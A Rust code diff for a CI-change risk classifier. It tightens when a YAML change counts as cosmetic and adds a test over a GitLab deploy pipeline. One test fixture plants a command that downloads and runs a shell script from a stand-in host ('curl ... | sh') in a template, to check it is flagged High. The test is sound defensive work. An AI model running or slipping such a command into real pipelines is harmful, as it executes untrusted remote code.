@@ -630,7 +630,8 @@ pub(crate) fn effective_changes(old: &Flat, new: &Flat) -> Vec<Change> {
 
 /// True when a YAML file's tree changed only in what nothing runs
 /// differently for: names and descriptions, caches (a `cache:` block, a
-/// `GOMODCACHE` variable, a job extending a cache template), and paths that skip
+/// `GOMODCACHE` variable, a template of cache settings only and jobs
+/// extending it), and paths that skip
 /// docs-only changes (`paths-ignore: ["**/*.md"]`), once renamed keys are
 /// followed. A CI job renamed with every `needs` updated, or given a cache,
 /// deploys exactly what it deployed before.
@@ -660,14 +661,47 @@ pub(crate) fn only_cosmetic(f: &FileView<'_>) -> bool {
             let (p, v) = match c {
                 Change::Removed(p, v) | Change::Added(p, v) | Change::Changed(p, _, v) => (p, v),
             };
-            let segs: Vec<&str> = p.split(['.', '[', ']']).filter(|s| !s.is_empty()).collect();
+            let segs = segments(p);
             let key = segs.last().copied().unwrap_or("");
-            let cache = |t: &str| t.to_ascii_lowercase().contains("cache");
             matches!(key, "name" | "description" | "display_name" | "displayName")
-                || segs.iter().any(|s| cache(s))
-                || key == "extends" && cache(v)
+                || segs.iter().any(|s| s.eq_ignore_ascii_case("cache"))
+                || cache_variable(&segs)
+                || p.starts_with('.') && segs.first().is_some_and(|t| cache_template(&b, t))
+                || key == "extends" && v.strip_prefix('.').is_some_and(|t| cache_template(&b, t))
                 || segs.contains(&"paths-ignore") && docs_glob(v)
         })
+}
+
+/// The segments of a flattened path: `jobs.test.needs[lint]` → jobs, test,
+/// needs, lint.
+fn segments(path: &str) -> Vec<&str> {
+    path.split(['.', '[', ']'])
+        .filter(|s| !s.is_empty())
+        .collect()
+}
+
+/// A pipeline variable that points a tool at its cache (`variables.GOMODCACHE`,
+/// `env.PIP_CACHE_DIR`).
+fn cache_variable(segs: &[&str]) -> bool {
+    let Some((name, parents)) = segs.split_last() else {
+        return false;
+    };
+    parents.iter().any(|p| matches!(*p, "variables" | "env"))
+        && (name.ends_with("CACHE") || name.ends_with("CACHE_DIR"))
+}
+
+/// A hidden template (`.go-cache:`, named here without its dot) whose
+/// every setting sits under a `cache` key: a job extending it gets a cache
+/// and nothing else.
+fn cache_template(tree: &Flat, name: &str) -> bool {
+    let mut leaves = tree
+        .keys()
+        .filter(|k| k.starts_with('.'))
+        .map(|k| segments(k))
+        .filter(|s| s.first() == Some(&name))
+        .peekable();
+    leaves.peek().is_some()
+        && leaves.all(|s| s.iter().skip(1).any(|x| x.eq_ignore_ascii_case("cache")))
 }
 
 /// Istio-style authorization policies (`AuthorizationPolicy`, action ALLOW):
@@ -1241,6 +1275,49 @@ mod tests {
             flatten(Format::Yaml, new).unwrap(),
         );
         effective_changes(&a, &b)
+    }
+
+    #[test]
+    fn a_deploy_pipeline_given_only_a_cache_or_new_names_deploys_the_same() {
+        use crate::diff::MinusPlus;
+        use crate::risk::testkit::diff_of;
+        use crate::risk::{Contents, RuleSet, Severity, findings};
+        let level = |old: &str, new: &str| {
+            let path = ".gitlab/ci/deploy.yml";
+            let mut c = Contents::new();
+            c.insert(
+                path.to_string(),
+                MinusPlus::new(Some(old.to_string()), Some(new.to_string())),
+            );
+            findings(
+                &diff_of(path, Some(old), Some(new)),
+                &c,
+                &RuleSet::builtin(),
+            )
+            .into_iter()
+            .filter(|f| f.rule == "ci-deploys-to-production")
+            .map(|f| f.severity)
+            .max()
+        };
+        let old = "unit:\n  stage: test\n  script:\n    - go test ./...\nproduction:\n  stage: deploy\n  needs: [unit]\n  environment: production\n  when: manual\n  script:\n    - helm upgrade app chart\n";
+        let cached = format!(
+            ".go-cache:\n  cache:\n    key: go-mod\n    paths: [.cache/go-mod/]\n{}",
+            old.replace(
+                "  stage: deploy\n",
+                "  stage: deploy\n  extends: .go-cache\n"
+            )
+        );
+        assert_eq!(level(old, &cached), Some(Severity::Low));
+        // A "cache" template that also runs something is not a cache.
+        let scripted = cached.replace(
+            "    paths: [.cache/go-mod/]\n",
+            "    paths: [.cache/go-mod/]\n  before_script:\n    - curl -s https://x.example/i.sh | sh\n",
+        );
+        assert_eq!(level(old, &scripted), Some(Severity::High));
+        // A step or job whose name says cache runs what it runs.
+        let named = old.replace("production:", "deploy-with-cache:");
+        let changed = named.replace("helm upgrade app chart", "helm upgrade app chart --force");
+        assert_eq!(level(&named, &changed), Some(Severity::High));
     }
 
     #[test]
